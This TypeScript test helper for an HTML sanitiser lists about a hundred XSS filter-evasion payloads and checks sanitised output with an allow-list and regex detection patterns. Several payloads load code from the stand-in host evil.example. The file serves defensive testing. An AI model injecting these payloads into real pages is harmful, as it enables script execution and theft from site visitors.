import { Parser } from 'htmlparser2'

// Filter-evasion payloads (after the OWASP XSS Filter Evasion Cheat Sheet, html5sec.org and
// known sanitiser bypasses). Every one must come out of the sanitiser harmless; API tests send
// them through titles and bodies too.
export const xssCorpus: readonly string[] = [
  // Script tags
  '<script>alert(1)</script>',
  '<SCRIPT>alert(1)</SCRIPT>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script src="https://evil.example/x.js"></script>',
  '<SCRIPT SRC=//evil.example/.j></SCRIPT>',
  '<script/xss src="https://evil.example/x.js"></script>',
  '<<SCRIPT>alert("XSS");//<</SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script\n>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<p>text<script type="text/javascript">alert(1)</script></p>',
  // Event handlers
  '<img src=x onerror=alert(1)>',
  '<IMG SRC=x ONERROR="alert(1)">',
  '<img src="/media/a.webp" onload="alert(1)">',
  '<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>',
  '<img """><script>alert("XSS")</script>">',
  '<img src=`x`onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  '<body onload=alert(1)>',
  '<p onclick="alert(1)">bấm</p>',
  '<p onmouseover=alert(1)>rê chuột</p>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<div style="width:expression(alert(1))" onmouseenter=alert(1)>x</div>',
  // javascript: and friends
  '<a href="javascript:alert(1)">link</a>',
  '<a href="JaVaScRiPt:alert(1)">link</a>',
  '<a href="jav&#x09;ascript:alert(1)">tab</a>',
  '<a href="jav&#x0A;ascript:alert(1)">newline</a>',
  '<a href="jav&#x0D;ascript:alert(1)">return</a>',
  '<a href="jav\tascript:alert(1)">raw tab</a>',
  '<a href=" &#14;  javascript:alert(1)">controls</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">decimal</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">hex</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">padded</a>',
  '<a href="javascript&colon;alert(1)">named colon</a>',
  '<a href="vbscript:msgbox(1)">vb</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
  '<a href="DATA:text/html,<script>alert(1)</script>">data upper</a>',
  '<a href="//evil.example">protocol relative</a>',
  '<a href="/\\evil.example">backslash</a>',
  '<a href="/&#x09;/evil.example">tab slash</a>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="https://evil.example/track.gif">',
  '<img src="/media/../../etc/passwd">',
  '<img src="/media/%2e%2e/secret.webp">',
  '<img srcset="javascript:alert(1) 1x" src="/media/a.webp">',
  '<form action="javascript:alert(1)"><button>gửi</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  // Frames, objects, meta, base, styles
  '<iframe src="javascript:alert(1)"></iframe>',
  '<IFRAME SRC="https://evil.example"></IFRAME>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<object data="javascript:alert(1)"></object>',
  '<object type="text/x-scriptlet" data="https://evil.example/x.html"></object>',
  '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<embed src="https://evil.example/x.swf" allowscriptaccess="always">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<META HTTP-EQUIV="refresh" CONTENT="0; URL=https://evil.example">',
  '<base href="javascript:alert(1)//">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<p style="background-image:url(javascript:alert(1))">nền</p>',
  '<ol style="list-style-image:url(javascript:alert(1))"><li>a</li></ol>',
  '<ul style="list-style-type:expression(alert(1))"><li>a</li></ul>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  // Broken, nested and mutating markup
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<p title="</p><img src=x onerror=alert(1)>">mXSS</p>',
  '<textarea><script>alert(1)</script></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<template><img src=x onerror=alert(1)></template>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<a href="https://ok.example" onclick="alert(1)">https with handler</a>',
  '<a href="https://ok.example"" onmouseover="alert(1)">attribute breaking</a>',
  "<a href='https://ok.example'/onmouseover=alert(1)>slash separated</a>",
  '<p <img src=x onerror=alert(1)>>broken</p>',
  '<img src=x onerror=alert(1)//',
  '<figure class="image" onclick="alert(1)"><img src="/media/a.webp" onerror="alert(1)"><figcaption onmouseover="alert(1)">chú thích</figcaption></figure>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<a href="#" onfocus="alert(1)" autofocus>hash</a>',
]

/** What the sanitiser may emit: element → its attributes. */
const ALLOWED: Record<string, readonly string[]> = {
  p: [],
  br: [],
  h2: [],
  h3: [],
  h4: [],
  strong: [],
  b: [],
  em: [],
  i: [],
  u: [],
  s: [],
  blockquote: [],
  ul: ['style'],
  ol: ['style', 'start', 'reversed'],
  li: [],
  a: ['href', 'rel', 'target'],
  figure: ['class'],
  img: ['src', 'alt', 'width', 'height'],
  figcaption: [],
}

const FORBIDDEN_MARKUP = [
  /<script/i,
  /<iframe/i,
  /<object/i,
  /<embed/i,
  /<svg/i,
  /<style/i,
  /<math/i,
  /<meta/i,
  /<base/i,
  /<link/i,
  /<form/i,
  /<[^>]*\son[a-z]+\s*=/i,
  /(?:href|src|action|data)\s*=\W*(?:javascript|data|vbscript)\s*:/i,
]

/**
 * Why some sanitised HTML is not harmless (empty when it is): forbidden markup in the text, or,
 * parsed as a browser would, an element or attribute outside the allow-list, a link that is not
 * http(s)/mailto/tel or a site path, a picture that is not ours, a style other than a list type.
 */
export function htmlProblems(html: string): string[] {
  const problems = FORBIDDEN_MARKUP.filter((re) => re.test(html)).map((re) => `matches ${re}`)
  const parser = new Parser(
    {
      onopentag(name, attribs) {
        const allowed = ALLOWED[name]
        if (!allowed) {
          problems.push(`element <${name}>`)
          return
        }
        for (const [attr, raw] of Object.entries(attribs)) {
          // As the URL parser reads it: tabs and newlines gone, ends trimmed.
          const value = raw.replace(/[\t\n\r]/g, '').trim()
          if (!allowed.includes(attr)) problems.push(`attribute ${attr} on <${name}>`)
          else if (attr === 'href' && !/^(?:https?:\/\/|mailto:|tel:|\/(?![/\\]))/i.test(value))
            problems.push(`href ${value}`)
          else if (attr === 'src' && !/^\/media\/(?!.*\.\.)[\w./-]+$/.test(value))
            problems.push(`src ${value}`)
          else if (attr === 'style' && !/^list-style-type:[a-z-]+;?$/.test(value))
            problems.push(`style ${value}`)
          else if (
            attr === 'class' &&
            !value.split(' ').every((c) => /^image(?:-style-[\w-]+)?$/.test(c))
          )
            problems.push(`class ${value}`)
        }
      },
      onclosetag(name, isImplied) {
        if (!isImplied && !ALLOWED[name]) problems.push(`end tag </${name}>`)
      },
      oncomment() {
        problems.push('comment')
      },
      onprocessinginstruction(name) {
        problems.push(`processing instruction ${name}`)
      },
    },
    { decodeEntities: true, recognizeCDATA: false },
  )
  parser.end(html)
  return problems
}
